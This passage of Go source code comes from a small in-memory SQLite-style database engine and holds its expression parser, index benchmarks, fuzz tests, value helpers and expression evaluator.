			l = &Binary{Op: t.text, L: l, R: r}
			continue
		}
		return l, nil
	}
}

func (p *parser) parseMultiplicative() (Expr, error) {
	l, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		if t.kind == tokOp && (t.text == "*" || t.text == "/" || t.text == "%") {
			p.pos++
			r, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			l = &Binary{Op: t.text, L: l, R: r}
			continue
		}
		return l, nil
	}
}

func (p *parser) parseUnary() (Expr, error) {
	if p.acceptOp("-") {
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &Unary{Op: "-", X: x}, nil
	}
	if p.acceptOp("+") {
		return p.parseUnary()
	}
	return p.parsePrimary()
}

func (p *parser) parsePrimary() (Expr, error) {
	t := p.peek()
	switch t.kind {
	case tokNumber:
		p.pos++
		if strings.Contains(t.text, ".") {
			f, err := strconv.ParseFloat(t.text, 64)
			if err != nil {
				return nil, p.errf("bad number")
			}
			return &Lit{Val: f}, nil
		}
		n, err := strconv.ParseInt(t.text, 10, 64)
		if err != nil {
			return nil, p.errf("bad number")
		}
		return &Lit{Val: n}, nil
	case tokString:
		p.pos++
		return &Lit{Val: t.text}, nil
	case tokParam:
		p.pos++
		idx := p.params
		p.params++
		return &Param{Index: idx}, nil
	case tokKeyword:
		switch t.text {
		case "NULL":
			p.pos++
			return &Lit{Val: nil}, nil
		case "NEW", "OLD":
			p.pos++
			qual := strings.ToLower(t.text)
			if err := p.expectOp("."); err != nil {
				return nil, err
			}
			col, err := p.ident()
			if err != nil {
				return nil, err
			}
			return &ColRef{Table: qual, Col: col}, nil
		case "EXISTS":
			p.pos++
			if err := p.expectOp("("); err != nil {
				return nil, err
			}
			sel, err := p.parseSelect()
			if err != nil {
				return nil, err
			}
			if err := p.expectOp(")"); err != nil {
				return nil, err
			}
			return &ExistsExpr{Select: sel}, nil
		case "CASE":
			return p.parseCase()
		case "CAST":
			p.pos++
			if err := p.expectOp("("); err != nil {
				return nil, err
			}
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectKeyword("AS"); err != nil {
				return nil, err
			}
			typ, err := p.ident()
			if err != nil {
				return nil, err
			}
			if err := p.expectOp(")"); err != nil {
				return nil, err
			}
			return &Call{Name: "CAST_" + upperASCII(typ), Args: []Expr{e}}, nil
		case "REPLACE": // REPLACE(x, from, to) function
			p.pos++
			return p.parseCallTail("REPLACE")
		}
		return nil, p.errf("unexpected keyword %s in expression", t.text)
	case tokIdent:
		p.pos++
		name := t.text
		if p.acceptOp("(") {
			p.backup()
			return p.parseCallTail(upperASCII(name))
		}
		if p.acceptOp(".") {
			col, err := p.ident()
			if err != nil {
				return nil, err
			}
			return &ColRef{Table: name, Col: col}, nil
		}
		return &ColRef{Col: name}, nil
	case tokOp:
		if t.text == "(" {
			p.pos++
			// Scalar subquery or parenthesized expression.
			if inner := p.peek(); inner.kind == tokKeyword && inner.text == "SELECT" {
				sel, err := p.parseSelect()
				if err != nil {
					return nil, err
				}
				if err := p.expectOp(")"); err != nil {
					return nil, err
				}
				return &SubqueryExpr{Select: sel}, nil
			}
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectOp(")"); err != nil {
				return nil, err
			}
			return e, nil
		}
	}
	return nil, p.errf("unexpected token in expression")
}

// parseCallTail parses "(args)" after a function name.
func (p *parser) parseCallTail(name string) (Expr, error) {
	if err := p.expectOp("("); err != nil {
		return nil, err
	}
	call := &Call{Name: name}
	if p.acceptOp("*") {
		call.Star = true
		if err := p.expectOp(")"); err != nil {
			return nil, err
		}
		return call, nil
	}
	if p.acceptOp(")") {
		return call, nil
	}
	for {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		call.Args = append(call.Args, e)
		if p.acceptOp(",") {
			continue
		}
		if err := p.expectOp(")"); err != nil {
			return nil, err
		}
		return call, nil
	}
}

func (p *parser) parseCase() (Expr, error) {
	p.next() // CASE
	ce := &CaseExpr{}
	if t := p.peek(); !(t.kind == tokKeyword && (t.text == "WHEN" || t.text == "END")) {
		operand, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		ce.Operand = operand
	}
	for p.acceptKeyword("WHEN") {
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expectKeyword("THEN"); err != nil {
			return nil, err
		}
		res, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		ce.Whens = append(ce.Whens, struct{ Cond, Result Expr }{cond, res})
	}
	if p.acceptKeyword("ELSE") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		ce.Else = e
	}
	if err := p.expectKeyword("END"); err != nil {
		return nil, err
	}
	return ce, nil
}
