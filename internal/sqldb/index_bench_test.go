package sqldb

import (
	"fmt"
	"testing"
)

// Probe microbenchmarks, separating the index probe itself (a binary
// search or hash-bucket load) from the end-to-end statement latency
// that cmd/maxoid-indexbench reports. The probe is what scales: at a
// million rows it stays in the tens of nanoseconds while a scan walks
// every row; the statement path around it (cache hit, binding,
// planning, materialization) is constant overhead.

const benchRows = 1_000_000

func benchTable(b *testing.B, using string) (*DB, *table) {
	b.Helper()
	db := Open()
	if _, err := db.Exec("CREATE TABLE t (_id INTEGER PRIMARY KEY, a INTEGER, b INTEGER)"); err != nil {
		b.Fatal(err)
	}
	ins, err := db.Prepare("INSERT INTO t (a, b) VALUES (?, ?)")
	if err != nil {
		b.Fatal(err)
	}
	for i := 0; i < benchRows; i++ {
		if _, err := ins.Exec(int64(i), int64(i%1000)); err != nil {
			b.Fatal(err)
		}
	}
	if _, err := db.Exec(fmt.Sprintf("CREATE INDEX t_a ON t (a)%s", using)); err != nil {
		b.Fatal(err)
	}
	return db, db.tables["t"]
}

// BenchmarkOrderedProbe1M is the raw ordered-index point probe: one
// binary search over a million sorted entries.
func BenchmarkOrderedProbe1M(b *testing.B) {
	_, t := benchTable(b, "")
	ix := t.indexes[0]
	key := make([]Value, 1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		key[0] = int64(i % benchRows)
		if got := ix.lookupEq(key); len(got) != 1 {
			b.Fatalf("probe %d: %d rows", i, len(got))
		}
	}
}

// BenchmarkHashProbe1M is the raw hash-index point probe: one bucket
// load keyed by the encoded value.
func BenchmarkHashProbe1M(b *testing.B) {
	_, t := benchTable(b, " USING HASH")
	ix := t.indexes[0]
	key := make([]Value, 1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		key[0] = int64(i % benchRows)
		if got := ix.lookupEq(key); len(got) != 1 {
			b.Fatalf("probe %d: %d rows", i, len(got))
		}
	}
}

// BenchmarkOrderedRange1M is the raw range bound computation plus the
// walk over the 1000 matching entries.
func BenchmarkOrderedRange1M(b *testing.B) {
	_, t := benchTable(b, "")
	ix := t.indexes[0]
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		lo := int64(i % (benchRows - 1000))
		got := ix.lookupRange(nil, lo, true, lo+1000, false)
		if len(got) != 1000 {
			b.Fatalf("range %d: %d rows", i, len(got))
		}
	}
}

// BenchmarkPointQueryIndexed1M is the full statement path the probe
// sits inside: prepared-statement cache hit, plan cache hit, probe,
// WHERE re-check, result materialization.
func BenchmarkPointQueryIndexed1M(b *testing.B) {
	db, _ := benchTable(b, "")
	q, err := db.Prepare("SELECT b FROM t WHERE a = ?")
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows, err := q.Query(int64(i % benchRows))
		if err != nil || len(rows.Data) != 1 {
			b.Fatalf("query %d: %v (%d rows)", i, err, len(rows.Data))
		}
	}
}
