package sqldb

import (
	"testing"
)

// The fuzz targets cover the SQL front end — lexer, parser, and the
// formatter the COW proxy relies on for view rewriting. Invariants:
// no panics on arbitrary input, and formatting is a fixpoint (parse →
// format → parse → format yields identical text).

var fuzzSeeds = []string{
	"SELECT v, w FROM t WHERE v > 1 ORDER BY v DESC LIMIT 2",
	"SELECT * FROM t WHERE w LIKE 'b%' ESCAPE '\\'",
	"SELECT v FROM t WHERE v IN (SELECT v FROM t WHERE v > 1)",
	"SELECT COUNT(*) FROM t GROUP BY w HAVING COUNT(*) > 1",
	"SELECT CASE WHEN v > 2 THEN 'hi' ELSE 'lo' END FROM t",
	"SELECT a.x FROM files AS a JOIN artists AS b ON a.k = b.k",
	"SELECT v, w FROM t UNION ALL SELECT v, w FROM t ORDER BY v",
	"INSERT INTO t (_id, v) VALUES (1, 'it''s'), (2, NULL)",
	"UPDATE t SET v = v + 1.5 WHERE w IS NOT NULL",
	"DELETE FROM t WHERE v BETWEEN 1 AND 2",
	"CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER, w TEXT)",
	"CREATE TRIGGER tr INSTEAD OF INSERT ON v BEGIN SELECT 1; END",
	"BEGIN; COMMIT; ROLLBACK;",
	"SELECT -1e9, 0x, '' FROM t",
	"SELECT\n\t*\nFROM t -- comment",
	// PR 6 grammar: index DDL, EXPLAIN, and parameter placeholders
	// (the prepared-statement layer rewrites literals to ? and must
	// round-trip through the same lexer and parser).
	"CREATE INDEX IF NOT EXISTS t_vw ON t (v, w)",
	"CREATE INDEX t_h ON t (w) USING HASH",
	"DROP INDEX IF EXISTS t_vw",
	"EXPLAIN SELECT v FROM t WHERE v = 3 AND w > 'a'",
	"EXPLAIN UPDATE t SET v = ? WHERE w = ?",
	"SELECT v FROM t WHERE v = ? AND w BETWEEN ? AND ? LIMIT ?",
	"INSERT INTO t (v, w) VALUES (?, ?)",
}

// FuzzTokenize checks the lexer never panics and either yields tokens
// or a clean error on arbitrary byte soup.
func FuzzTokenize(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Add("'unterminated")
	f.Add("\"quoted ident")
	f.Add("1.2.3e+-5")
	f.Fuzz(func(t *testing.T, src string) {
		toks, err := lex(src)
		if err == nil && len(src) > 0 && len(toks) == 0 {
			// Whitespace-only input is the one legitimate empty result.
			for _, c := range src {
				if c != ' ' && c != '\t' && c != '\n' && c != '\r' {
					t.Fatalf("lex(%q): no tokens and no error", src)
				}
			}
		}
	})
}

// FuzzParse checks the parser never panics, and that anything it
// accepts can be formatted (for SELECTs) without panicking.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		stmts, err := parseAll(src)
		if err != nil {
			return
		}
		for _, s := range stmts {
			if sel, ok := s.(*SelectStmt); ok {
				_ = FormatSelect(sel)
			}
		}
	})
}

// FuzzNormalize checks the prepared-statement normalizer: whenever it
// accepts a token stream, the canonical text it renders must lex and
// parse back to the same number of statements, and the placeholder
// count in the rewritten stream must match the extracted literals —
// otherwise bound parameters would shift against their positions.
func FuzzNormalize(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		toks, err := lex(src)
		if err != nil {
			return
		}
		stmts, err := parseTokens(toks)
		if err != nil {
			return
		}
		n, ok := normalizeTokens(toks)
		if !ok {
			return
		}
		params := 0
		for _, tk := range n.toks {
			if tk.kind == tokParam {
				params++
			}
		}
		if params != len(n.lits) {
			t.Fatalf("normalize(%q): %d placeholders vs %d extracted literals", src, params, len(n.lits))
		}
		ntoks, err := lex(n.text)
		if err != nil {
			t.Fatalf("normalized text does not lex\n  input: %q\n  text: %q\n  error: %v", src, n.text, err)
		}
		nstmts, err := parseTokens(ntoks)
		if err != nil {
			t.Fatalf("normalized text does not parse\n  input: %q\n  text: %q\n  error: %v", src, n.text, err)
		}
		if len(nstmts) != len(stmts) {
			t.Fatalf("normalize(%q) changed statement count %d -> %d: %q", src, len(stmts), len(nstmts), n.text)
		}
	})
}

// FuzzFormat checks the formatter round-trips: any SELECT the parser
// accepts must format to SQL that parses again, and a second
// format pass must reproduce the first — formatting is a fixpoint, so
// the COW proxy's rewrite-and-reparse cycle cannot drift.
func FuzzFormat(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		stmts, err := parseAll(src)
		if err != nil {
			return
		}
		for _, s := range stmts {
			sel, ok := s.(*SelectStmt)
			if !ok {
				continue
			}
			once := FormatSelect(sel)
			again, err := parseAll(once)
			if err != nil {
				t.Fatalf("formatted SQL does not re-parse\n  input: %q\n  formatted: %q\n  error: %v", src, once, err)
			}
			if len(again) != 1 {
				t.Fatalf("formatted SQL re-parsed to %d statements: %q", len(again), once)
			}
			sel2, ok := again[0].(*SelectStmt)
			if !ok {
				t.Fatalf("formatted SELECT re-parsed as %T: %q", again[0], once)
			}
			if twice := FormatSelect(sel2); twice != once {
				t.Fatalf("format is not a fixpoint\n  input: %q\n  first:  %q\n  second: %q", src, once, twice)
			}
		}
	})
}
