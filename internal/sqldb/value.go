// Package sqldb implements a small in-memory SQL database engine with
// SQLite-flavored semantics: dynamically typed values, integer primary
// keys, SQL views (including compound UNION ALL views), INSTEAD OF
// triggers on views, and a query planner that performs subquery
// flattening for UNION ALL views.
//
// It exists to host Maxoid's copy-on-write proxy layer (paper §5.2):
// the proxy is expressed entirely in terms of these SQL constructs, so
// reproducing them faithfully — including SQLite 3.8.6's restriction
// that flattening a UNION ALL view under an ORDER BY requires the ORDER
// BY columns to be a subset of the selected columns (footnote 5) — is
// what makes the proxy's performance behavior reproducible.
package sqldb

import (
	"fmt"
	"strconv"
	"strings"
)

// Value is a dynamically typed SQL value: nil, int64, float64, string,
// []byte, or bool. The engine normalizes int/bool inputs on entry.
type Value interface{}

// normalize converts convenience Go types to the engine's canonical set.
func normalize(v Value) Value {
	switch x := v.(type) {
	case nil:
		return nil
	case int:
		return int64(x)
	case int32:
		return int64(x)
	case uint:
		return int64(x)
	case int64, float64, string, []byte:
		return x
	case bool:
		if x {
			return int64(1)
		}
		return int64(0)
	case float32:
		return float64(x)
	default:
		return fmt.Sprint(x)
	}
}

// isNumeric reports whether v is an int64 or float64.
func isNumeric(v Value) bool {
	switch v.(type) {
	case int64, float64:
		return true
	}
	return false
}

// asFloat coerces a numeric value to float64.
func asFloat(v Value) float64 {
	switch x := v.(type) {
	case int64:
		return float64(x)
	case float64:
		return x
	}
	return 0
}

// AsInt coerces v to an int64 using SQLite-like affinity rules.
func AsInt(v Value) (int64, bool) {
	switch x := v.(type) {
	case int64:
		return x, true
	case float64:
		return int64(x), true
	case string:
		n, err := strconv.ParseInt(strings.TrimSpace(x), 10, 64)
		if err != nil {
			return 0, false
		}
		return n, true
	}
	return 0, false
}

// AsString renders v as a string (SQLite CAST TO TEXT semantics).
func AsString(v Value) string {
	switch x := v.(type) {
	case nil:
		return ""
	case string:
		return x
	case []byte:
		return string(x)
	case int64:
		return strconv.FormatInt(x, 10)
	case float64:
		return strconv.FormatFloat(x, 'g', -1, 64)
	}
	return fmt.Sprint(v)
}

// truthy implements SQL boolean coercion: NULL and 0 are false.
func truthy(v Value) bool {
	switch x := v.(type) {
	case nil:
		return false
	case int64:
		return x != 0
	case float64:
		return x != 0
	case string:
		n, err := strconv.ParseFloat(strings.TrimSpace(x), 64)
		return err == nil && n != 0
	case []byte:
		return len(x) > 0
	}
	return false
}

// compare orders two values with NULL < numbers < text < blob, matching
// SQLite's cross-type ordering. Returns -1, 0, or 1.
func compare(a, b Value) int {
	ra, rb := typeRank(a), typeRank(b)
	if ra != rb {
		if ra < rb {
			return -1
		}
		return 1
	}
	switch ra {
	case 0: // both NULL
		return 0
	case 1: // both numeric
		fa, fb := asFloat(a), asFloat(b)
		switch {
		case fa < fb:
			return -1
		case fa > fb:
			return 1
		}
		return 0
	case 2: // both text
		return strings.Compare(AsString(a), AsString(b))
	default: // blobs
		return strings.Compare(string(a.([]byte)), string(b.([]byte)))
	}
}

func typeRank(v Value) int {
	switch v.(type) {
	case nil:
		return 0
	case int64, float64:
		return 1
	case string:
		return 2
	default:
		return 3
	}
}

// valuesEqual implements the SQL = operator (NULL = anything is NULL,
// handled by the caller; here NULLs compare equal for IN-list support).
func valuesEqual(a, b Value) bool {
	return compare(a, b) == 0
}

// likeMatch implements the SQL LIKE operator with % and _ wildcards,
// case-insensitive as in SQLite's default collation for ASCII.
func likeMatch(s, pattern string) bool {
	return likeRec(strings.ToLower(s), strings.ToLower(pattern))
}

func likeRec(s, p string) bool {
	for len(p) > 0 {
		switch p[0] {
		case '%':
			for i := 0; i <= len(s); i++ {
				if likeRec(s[i:], p[1:]) {
					return true
				}
			}
			return false
		case '_':
			if len(s) == 0 {
				return false
			}
			s, p = s[1:], p[1:]
		default:
			if len(s) == 0 || s[0] != p[0] {
				return false
			}
			s, p = s[1:], p[1:]
		}
	}
	return len(s) == 0
}
