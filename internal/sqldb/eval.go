package sqldb

import (
	"fmt"
	"math"
	"strings"
)

// eval evaluates an expression. grp is non-nil when evaluating a select
// list in aggregate context; aggregates then compute over grp's rows.
func (ex *executor) eval(e Expr, sc *scope, grp *groupData) (Value, error) {
	switch x := e.(type) {
	case *Lit:
		return x.Val, nil
	case *Param:
		if x.Index >= len(ex.args) {
			return nil, fmt.Errorf("sqldb: missing argument for placeholder %d", x.Index+1)
		}
		return ex.args[x.Index], nil
	case *ColRef:
		if sc == nil {
			return nil, fmt.Errorf("sqldb: no such column: %s", x.Col)
		}
		v, ok := sc.lookup(x.Table, x.Col)
		if !ok {
			if x.Table != "" {
				return nil, fmt.Errorf("sqldb: no such column: %s.%s", x.Table, x.Col)
			}
			return nil, fmt.Errorf("sqldb: no such column: %s", x.Col)
		}
		return v, nil
	case *Unary:
		return ex.evalUnary(x, sc, grp)
	case *Binary:
		return ex.evalBinary(x, sc, grp)
	case *InExpr:
		return ex.evalIn(x, sc, grp)
	case *IsNull:
		v, err := ex.eval(x.X, sc, grp)
		if err != nil {
			return nil, err
		}
		isNull := v == nil
		if x.Not {
			isNull = !isNull
		}
		return boolVal(isNull), nil
	case *Between:
		v, err := ex.eval(x.X, sc, grp)
		if err != nil {
			return nil, err
		}
		lo, err := ex.eval(x.Lo, sc, grp)
		if err != nil {
			return nil, err
		}
		hi, err := ex.eval(x.Hi, sc, grp)
		if err != nil {
			return nil, err
		}
		if v == nil || lo == nil || hi == nil {
			return nil, nil
		}
		in := compare(v, lo) >= 0 && compare(v, hi) <= 0
		if x.Not {
			in = !in
		}
		return boolVal(in), nil
	case *Call:
		return ex.evalCall(x, sc, grp)
	case *SubqueryExpr:
		rows, err := ex.execSelect(x.Select, sc)
		if err != nil {
			return nil, err
		}
		if len(rows.Data) == 0 || len(rows.Data[0]) == 0 {
			return nil, nil
		}
		return rows.Data[0][0], nil
	case *ExistsExpr:
		rows, err := ex.execSelect(x.Select, sc)
		if err != nil {
			return nil, err
		}
		exists := len(rows.Data) > 0
		if x.Not {
			exists = !exists
		}
		return boolVal(exists), nil
	case *CaseExpr:
		return ex.evalCase(x, sc, grp)
	}
	return nil, fmt.Errorf("sqldb: unsupported expression %T", e)
}

func boolVal(b bool) Value {
	if b {
		return int64(1)
	}
	return int64(0)
}

func (ex *executor) evalUnary(x *Unary, sc *scope, grp *groupData) (Value, error) {
	v, err := ex.eval(x.X, sc, grp)
	if err != nil {
		return nil, err
	}
	switch x.Op {
	case "-":
		switch n := v.(type) {
		case nil:
			return nil, nil
		case int64:
			return -n, nil
		case float64:
			return -n, nil
		}
		return nil, fmt.Errorf("sqldb: cannot negate %T", v)
	case "NOT":
		if v == nil {
			return nil, nil
		}
		return boolVal(!truthy(v)), nil
	}
	return nil, fmt.Errorf("sqldb: unsupported unary op %s", x.Op)
}

func (ex *executor) evalBinary(x *Binary, sc *scope, grp *groupData) (Value, error) {
	// AND/OR use three-valued logic with short-circuiting.
	switch x.Op {
	case "AND":
		l, err := ex.eval(x.L, sc, grp)
		if err != nil {
			return nil, err
		}
		if l != nil && !truthy(l) {
			return boolVal(false), nil
		}
		r, err := ex.eval(x.R, sc, grp)
		if err != nil {
			return nil, err
		}
		if r != nil && !truthy(r) {
			return boolVal(false), nil
		}
		if l == nil || r == nil {
			return nil, nil
		}
		return boolVal(true), nil
	case "OR":
		l, err := ex.eval(x.L, sc, grp)
		if err != nil {
			return nil, err
		}
		if l != nil && truthy(l) {
			return boolVal(true), nil
		}
		r, err := ex.eval(x.R, sc, grp)
		if err != nil {
			return nil, err
		}
		if r != nil && truthy(r) {
			return boolVal(true), nil
		}
		if l == nil || r == nil {
			return nil, nil
		}
		return boolVal(false), nil
	}

	l, err := ex.eval(x.L, sc, grp)
	if err != nil {
		return nil, err
	}
	r, err := ex.eval(x.R, sc, grp)
	if err != nil {
		return nil, err
	}

	switch x.Op {
	case "=", "!=", "<", "<=", ">", ">=":
		if l == nil || r == nil {
			return nil, nil
		}
		c := compare(l, r)
		switch x.Op {
		case "=":
			return boolVal(c == 0), nil
		case "!=":
			return boolVal(c != 0), nil
		case "<":
			return boolVal(c < 0), nil
		case "<=":
			return boolVal(c <= 0), nil
		case ">":
			return boolVal(c > 0), nil
		case ">=":
			return boolVal(c >= 0), nil
		}
	case "||":
		if l == nil || r == nil {
			return nil, nil
		}
		return AsString(l) + AsString(r), nil
	case "LIKE":
		if l == nil || r == nil {
			return nil, nil
		}
		return boolVal(likeMatch(AsString(l), AsString(r))), nil
	case "+", "-", "*", "/", "%":
		return arith(x.Op, l, r)
	}
	return nil, fmt.Errorf("sqldb: unsupported binary op %s", x.Op)
}

func arith(op string, l, r Value) (Value, error) {
	if l == nil || r == nil {
		return nil, nil
	}
	li, lIsInt := l.(int64)
	ri, rIsInt := r.(int64)
	if lIsInt && rIsInt {
		switch op {
		case "+":
			return li + ri, nil
		case "-":
			return li - ri, nil
		case "*":
			return li * ri, nil
		case "/":
			if ri == 0 {
				return nil, nil // SQLite: division by zero yields NULL
			}
			return li / ri, nil
		case "%":
			if ri == 0 {
				return nil, nil
			}
			return li % ri, nil
		}
	}
	if !isNumeric(l) || !isNumeric(r) {
		// SQLite applies numeric affinity; treat non-numerics as 0.
		lf, rf := coerceNumeric(l), coerceNumeric(r)
		return arith(op, lf, rf)
	}
	lf, rf := asFloat(l), asFloat(r)
	switch op {
	case "+":
		return lf + rf, nil
	case "-":
		return lf - rf, nil
	case "*":
		return lf * rf, nil
	case "/":
		if rf == 0 {
			return nil, nil
		}
		return lf / rf, nil
	case "%":
		if rf == 0 {
			return nil, nil
		}
		return math.Mod(lf, rf), nil
	}
	return nil, fmt.Errorf("sqldb: unsupported arithmetic op %s", op)
}

// coerceNumeric converts any value to a numeric value (0 on failure).
func coerceNumeric(v Value) Value {
	if isNumeric(v) {
		return v
	}
	if n, ok := AsInt(v); ok {
		return n
	}
	return int64(0)
}

func (ex *executor) evalIn(x *InExpr, sc *scope, grp *groupData) (Value, error) {
	v, err := ex.eval(x.X, sc, grp)
	if err != nil {
		return nil, err
	}
	if x.Sub != nil {
		if v == nil {
			return nil, nil
		}
		// "pk IN (SELECT pk FROM table)" answers straight from the
		// primary-key index — the COW views' NOT IN shape.
		if t, ok := ex.pkScanTable(x.Sub); ok {
			found := false
			if id, isInt := AsInt(v); isInt {
				_, found = t.byPK[id]
			}
			if x.Not {
				found = !found
			}
			return boolVal(found), nil
		}
		set, err := ex.inSubquerySet(x, sc)
		if err != nil {
			return nil, err
		}
		found := set[valueKey(v)]
		if x.Not {
			found = !found
		}
		return boolVal(found), nil
	}
	var candidates []Value
	for _, le := range x.List {
		lv, err := ex.eval(le, sc, grp)
		if err != nil {
			return nil, err
		}
		candidates = append(candidates, lv)
	}
	if v == nil {
		return nil, nil
	}
	found := false
	for _, c := range candidates {
		if c != nil && valuesEqual(v, c) {
			found = true
			break
		}
	}
	if x.Not {
		found = !found
	}
	return boolVal(found), nil
}

// inSubquerySet returns the value set of an IN subquery. A subquery of
// the exact shape "SELECT <pk> FROM <table>" answers membership through
// the table's primary-key index with no set construction at all — the
// shape the COW views use. Other non-correlated subqueries are
// evaluated once per statement and memoized; correlated ones (which
// reference outer columns) re-run against the row scope.
func (ex *executor) inSubquerySet(x *InExpr, sc *scope) (map[string]bool, error) {
	if set, ok := ex.inCache[x]; ok {
		return set, nil
	}
	if !ex.correlated[x] {
		// Try evaluating without the outer scope: success means the
		// subquery is self-contained and cacheable.
		rows, err := ex.execSelect(x.Sub, nil)
		if err == nil {
			set, serr := rowsToSet(rows)
			if serr != nil {
				return nil, serr
			}
			if ex.inCache == nil {
				ex.inCache = make(map[*InExpr]map[string]bool)
			}
			ex.inCache[x] = set
			return set, nil
		}
		if ex.correlated == nil {
			ex.correlated = make(map[*InExpr]bool)
		}
		ex.correlated[x] = true
	}
	rows, err := ex.execSelect(x.Sub, sc)
	if err != nil {
		return nil, err
	}
	return rowsToSet(rows)
}

// pkScanTable recognizes "SELECT <pkcol> FROM <basetable>" subqueries.
func (ex *executor) pkScanTable(sel *SelectStmt) (*table, bool) {
	if sel == nil || len(sel.Cores) != 1 {
		return nil, false
	}
	core := sel.Cores[0]
	if core.From == nil || core.From.Sub != nil || len(core.Joins) > 0 ||
		core.Where != nil || core.GroupBy != nil || core.Distinct || len(core.Cols) != 1 {
		return nil, false
	}
	ref, ok := core.Cols[0].Expr.(*ColRef)
	if !ok {
		return nil, false
	}
	t, ok := ex.db.tables[strings.ToLower(core.From.Name)]
	if !ok || t.pk < 0 || !strings.EqualFold(ref.Col, t.cols[t.pk].Name) {
		return nil, false
	}
	return t, true
}

func rowsToSet(rows *Rows) (map[string]bool, error) {
	set := make(map[string]bool, len(rows.Data))
	for _, row := range rows.Data {
		if len(row) != 1 {
			return nil, fmt.Errorf("sqldb: IN subquery must return one column")
		}
		if row[0] != nil {
			set[valueKey(row[0])] = true
		}
	}
	return set, nil
}

func (ex *executor) evalCase(x *CaseExpr, sc *scope, grp *groupData) (Value, error) {
	var operand Value
	var err error
	if x.Operand != nil {
		operand, err = ex.eval(x.Operand, sc, grp)
		if err != nil {
			return nil, err
		}
	}
	for _, w := range x.Whens {
		cond, err := ex.eval(w.Cond, sc, grp)
		if err != nil {
			return nil, err
		}
		matched := false
		if x.Operand != nil {
			matched = operand != nil && cond != nil && valuesEqual(operand, cond)
		} else {
			matched = truthy(cond)
		}
		if matched {
			return ex.eval(w.Result, sc, grp)
		}
	}
	if x.Else != nil {
		return ex.eval(x.Else, sc, grp)
	}
	return nil, nil
}

func (ex *executor) evalCall(x *Call, sc *scope, grp *groupData) (Value, error) {
	// Aggregates in aggregate context.
	if grp != nil {
		switch x.Name {
		case "COUNT":
			if x.Star {
				return int64(len(grp.rows)), nil
			}
			var n int64
			for _, row := range grp.rows {
				rowScope := &scope{parent: sc.parent, cols: grp.cols, row: row}
				v, err := ex.eval(x.Args[0], rowScope, nil)
				if err != nil {
					return nil, err
				}
				if v != nil {
					n++
				}
			}
			return n, nil
		case "MAX", "MIN":
			if len(x.Args) == 1 {
				var best Value
				for _, row := range grp.rows {
					rowScope := &scope{parent: sc.parent, cols: grp.cols, row: row}
					v, err := ex.eval(x.Args[0], rowScope, nil)
					if err != nil {
						return nil, err
					}
					if v == nil {
						continue
					}
					if best == nil ||
						(x.Name == "MAX" && compare(v, best) > 0) ||
						(x.Name == "MIN" && compare(v, best) < 0) {
						best = v
					}
				}
				return best, nil
			}
		case "SUM", "TOTAL", "AVG":
			var sum float64
			var n int64
			allInt := true
			for _, row := range grp.rows {
				rowScope := &scope{parent: sc.parent, cols: grp.cols, row: row}
				v, err := ex.eval(x.Args[0], rowScope, nil)
				if err != nil {
					return nil, err
				}
				if v == nil {
					continue
				}
				if _, ok := v.(int64); !ok {
					allInt = false
				}
				sum += asFloat(coerceNumeric(v))
				n++
			}
			switch x.Name {
			case "SUM":
				if n == 0 {
					return nil, nil
				}
				if allInt {
					return int64(sum), nil
				}
				return sum, nil
			case "TOTAL":
				return sum, nil
			case "AVG":
				if n == 0 {
					return nil, nil
				}
				return sum / float64(n), nil
			}
		}
	}

	// Scalar functions.
	args := make([]Value, len(x.Args))
	for i, a := range x.Args {
		v, err := ex.eval(a, sc, grp)
		if err != nil {
			return nil, err
		}
		args[i] = v
	}
	switch x.Name {
	case "LENGTH":
		if len(args) != 1 || args[0] == nil {
			return nil, nil
		}
		return int64(len(AsString(args[0]))), nil
	case "UPPER":
		if len(args) != 1 || args[0] == nil {
			return nil, nil
		}
		return strings.ToUpper(AsString(args[0])), nil
	case "LOWER":
		if len(args) != 1 || args[0] == nil {
			return nil, nil
		}
		return strings.ToLower(AsString(args[0])), nil
	case "ABS":
		if len(args) != 1 || args[0] == nil {
			return nil, nil
		}
		switch n := args[0].(type) {
		case int64:
			if n < 0 {
				return -n, nil
			}
			return n, nil
		case float64:
			return math.Abs(n), nil
		}
		return nil, nil
	case "COALESCE", "IFNULL":
		for _, a := range args {
			if a != nil {
				return a, nil
			}
		}
		return nil, nil
	case "SUBSTR":
		if len(args) < 2 || args[0] == nil {
			return nil, nil
		}
		s := AsString(args[0])
		start, _ := AsInt(args[1])
		if start < 1 {
			start = 1
		}
		if int(start) > len(s) {
			return "", nil
		}
		rest := s[start-1:]
		if len(args) >= 3 {
			n, _ := AsInt(args[2])
			if n < int64(len(rest)) {
				rest = rest[:n]
			}
		}
		return rest, nil
	case "REPLACE":
		if len(args) != 3 || args[0] == nil {
			return nil, nil
		}
		return strings.ReplaceAll(AsString(args[0]), AsString(args[1]), AsString(args[2])), nil
	case "MAX": // scalar form max(a, b, ...)
		var best Value
		for _, a := range args {
			if a == nil {
				return nil, nil
			}
			if best == nil || compare(a, best) > 0 {
				best = a
			}
		}
		return best, nil
	case "MIN":
		var best Value
		for _, a := range args {
			if a == nil {
				return nil, nil
			}
			if best == nil || compare(a, best) < 0 {
				best = a
			}
		}
		return best, nil
	case "COUNT":
		return nil, fmt.Errorf("sqldb: misuse of aggregate COUNT()")
	case "LAST_INSERT_ROWID":
		return ex.db.lastID.Load(), nil
